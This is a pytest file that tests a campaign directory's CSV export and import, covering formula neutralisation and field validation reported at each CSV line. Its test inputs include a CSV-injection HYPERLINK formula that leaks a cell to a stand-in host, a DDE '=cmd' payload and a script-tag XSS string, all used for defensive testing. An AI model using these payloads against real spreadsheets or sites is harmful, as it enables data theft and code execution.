"""The directory as CSV: no cell a spreadsheet would run, and an import that applies the
directory's rules field by field, each problem at its CSV line."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io

import pytest

from campaign import directory
from campaign.directory import interchange
from campaign.editing import csv_import
from campaign.errors import InvalidData
from campaign.models import Phone
from campaign.yamlfile import load_document
from tests.builders import RECIPIENTS
from tests.web.admin.helpers import field_values, form_of

STARTS = ["=", "+", "-", "@", "\t", "\r"]
BUNDLED = directory.load(RECIPIENTS).recipients


def with_column(recipient, column: str, value: str):
    """The office with `value` in one CSV column."""
    address = recipient.address
    if column.startswith(("salutation_", "ask_", "safety_note_")):
        key, _, language = column.rpartition("_")
        return dataclasses.replace(recipient, **{key: {**getattr(recipient, key), language: value}})
    if column == "address_lines":
        return dataclasses.replace(recipient, address=dataclasses.replace(address, lines=(value,)))
    if column in ("postcode", "city", "region", "address_country"):
        field = "country" if column == "address_country" else column
        return dataclasses.replace(
            recipient, address=dataclasses.replace(address, **{field: value})
        )
    if column in ("phones", "faxes"):
        return dataclasses.replace(recipient, **{column: (Phone(source=value, display=value),)})
    if column in ("emails", "tags"):
        return dataclasses.replace(recipient, **{column: (value,)})
    return dataclasses.replace(recipient, **{column: value})


def exported(recipients) -> list[dict[str, str]]:
    """The rows of the CSV export, as a spreadsheet reads them."""
    text = interchange.export_csv(recipients)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    ("column", "start"),
    [(column, STARTS[index % len(STARTS)]) for index, column in enumerate(interchange.COLUMNS)],
)
def test_every_column_that_starts_like_a_formula_gets_an_apostrophe(column, start):
    value = f'{start}HYPERLINK("http://example.org/?leak="&A1;"x")'
    row = exported([with_column(BUNDLED[0], column, value)])[0]
    assert row[column] == "'" + value
    assert interchange.uncell(row[column]) == value  # the import takes it off again


@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_start_is_neutralised(start):
    row = exported([with_column(BUNDLED[0], "person", f"{start}1+1")])[0]
    assert row["person"] == f"'{start}1+1"
    assert all(not cell.startswith(tuple(STARTS)) for cell in row.values())


def test_phones_in_international_form_get_an_apostrophe_too():
    rows = exported(BUNDLED)
    phones = [row["phones"] for row in rows if row["phones"]]
    assert phones and all(cell.startswith("'+") for cell in phones), phones
    assert rows[0]["phones"] == "'+39 06 3606 4651"
    faxes = [row["faxes"] for row in rows if row["faxes"]]
    assert faxes and all(cell.startswith("'") for cell in faxes)


def test_the_console_export_neutralises_a_formula_saved_in_an_office(admin):
    data, html = form_of(admin, "/admin/recipients/it-justice/edit")
    values = field_values(html)
    values["person"] = "=cmd|' /C calc'!A0"
    response = admin.post("/admin/recipients/it-justice/edit", data={**data, **values})
    assert response.status_code == 303, response.get_data(as_text=True)
    text = admin.get("/admin/recipients.csv").get_data(as_text=True).removeprefix("\ufeff")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["it-justice"]["person"] == "'=cmd|' /C calc'!A0"
    assert rows["it-interior"]["phones"].startswith("'+39")


# --- the import: the directory's rules, field by field, at the CSV line ------------------------

DOCUMENT = load_document(RECIPIENTS.read_bytes(), RECIPIENTS.name)


def as_csv(rows: list[dict[str, str]], tail: bytes = b"") -> bytes:
    """Rows as a CSV file's bytes, with `tail` (raw lines) added at the end."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8") + tail


def preview(data: bytes):
    """What importing `data` into the bundled directory would do."""
    return csv_import.preview_import(data, copy.deepcopy(DOCUMENT), "offices.csv")


def changed(**cells) -> list[dict[str, str]]:
    """The exported rows with cells of it-justice (CSV line 3) changed."""
    rows = copy.deepcopy(exported(BUNDLED))
    rows[1].update(cells)
    return rows


ROW_PROBLEMS = [
    ("country", {"country": "QQ"}, "offices.csv:3: it-justice.country: 'QQ' is not an ISO 3166-1"),
    ("email", {"emails": "foo@"}, 'offices.csv:3: it-justice.emails[0]: "foo@" is not a valid'),
    ("id", {"id": "IT INTERIOR"},
     "offices.csv:3: recipients[0].id: id 'IT INTERIOR' is not a slug"),
    ("length", {"office": "o" * 201}, "offices.csv:3: it-justice.office: office is 201 characters"
     " long; the limit is 200"),
    ("control", {"person": "a\x07b"}, "offices.csv:3: it-justice.person: person contains a "
     "control character (U+0007)"),
    ("line-break", {"title": "a\nb"}, "offices.csv:3: it-justice.title: title contains a control "
     "character (U+000A)"),
    ("phone", {"phones": "not a phone"}, 'offices.csv:3: it-justice.phones[0]: "not a phone" is '
     "not a phone number"),
    ("language", {"language": "xx"}, "offices.csv:3: it-justice.language: language 'xx'"),
    ("date", {"verified": "2013-02-30"}, 'offices.csv:3: it-justice.verified: verified '
     '"2013-02-30" is not a date'),
    ("salutation-missing", {"salutation_en": ""}, "offices.csv:3: it-justice.salutation"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("cells", "message"), [pytest.param(*case[1:], id=case[0]) for case in ROW_PROBLEMS]
)
def test_an_imported_row_breaking_a_rule_is_refused_at_its_line(cells, message):
    result = preview(as_csv(changed(**cells)))
    problems = [str(problem) for problem in result.problems]
    assert not result.ok
    assert any(problem.startswith(message) for problem in problems), problems
    assert [row.id for row in result.rows_to("invalid")] == [cells.get("id", "it-justice")]


def test_a_row_after_a_cell_of_three_lines_is_named_at_the_line_it_starts_on():
    rows = copy.deepcopy(exported(BUNDLED))
    rows[0]["email_note"] = "first\nsecond\nthird"  # it-interior: lines 2 to 4
    rows[2]["country"] = "QQ"  # it-foreign-affairs: line 6
    problems = [str(problem) for problem in preview(as_csv(rows)).problems]
    assert any(p.startswith("offices.csv:6: it-foreign-affairs.country:") for p in problems)
    assert not any(p.startswith(("offices.csv:3", "offices.csv:4")) for p in problems), problems


FILE_PROBLEMS = [
    ("not-utf8", b"kz-x,\xff\xfe\r\n", "offices.csv:10: is not UTF-8 text"),
    ("field-too-large", b"kz-big," + b"x" * 140_000 + b"\r\n",
     "offices.csv:10: cannot be read as CSV (field larger than field limit"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("tail", "message"), [pytest.param(*case[1:], id=case[0]) for case in FILE_PROBLEMS]
)
def test_a_file_that_cannot_be_read_is_refused_at_its_line(tail, message):
    with pytest.raises(InvalidData) as refused:
        preview(as_csv(exported(BUNDLED), tail))
    assert str(refused.value).startswith(message)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"id,evil\r\nit-interior,x\r\n", "offices.csv:1: unknown column 'evil'"),
        (b"office,city\r\nx,y\r\n", "offices.csv:1: has no 'id' column"),
        (b"id,city,city\r\nit-interior,a,b\r\n", "offices.csv:1: the column 'city' appears twice"),
        (b"id\r\nit-interior\r\nit-interior\r\n",
         "offices.csv:3: id: id 'it-interior' is already on line 2"),
        (b"id,office\r\nkz-x,a\x00b\r\n",
         "offices.csv:2: kz-x.office: office contains a control character (U+0000)"),
    ],
    ids=["unknown-column", "no-id", "column-twice", "id-twice", "nul"],
)  # fmt: skip
def test_a_header_or_row_problem_names_the_csv_line(data, message):
    problems = [str(problem) for problem in preview(data).problems]
    assert any(problem.startswith(message) for problem in problems), problems


def test_more_rows_than_the_limit_are_refused():
    data = b"id\r\n" + b"".join(f"kz-x-{n}\r\n".encode() for n in range(2001))
    with pytest.raises(InvalidData, match=r"offices\.csv:2002: more than 2000 rows"):
        preview(data)


@pytest.mark.parametrize(
    ("cell", "saved"),
    [("'=1+1", "=1+1"), ("=1+1", "=1+1"), ("'+39 06", "+39 06"), ("'plain", "'plain")],
    ids=["exported-formula", "raw-formula", "exported-plus", "apostrophe-kept"],
)
def test_an_apostrophe_the_export_added_is_taken_off_and_only_that(cell, saved):
    result = preview(as_csv(changed(person=cell)))
    assert result.ok, result.problems
    (row,) = result.rows_to("change")
    assert row.plain["person"] == saved


def test_a_refused_import_in_the_console_lists_the_lines_and_writes_nothing(admin, recipients_file):
    before = recipients_file.read_bytes()
    token, _ = form_of(admin, "/admin/import")
    data = as_csv(changed(country="QQ", person="<script>alert(1)</script>"))
    response = admin.post(
        "/admin/import",
        data={**token, "csv": (io.BytesIO(data), "offices.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "offices.csv:3" in text and "QQ" in text
    assert "<script>alert(1)</script>" not in text
    assert recipients_file.read_bytes() == before
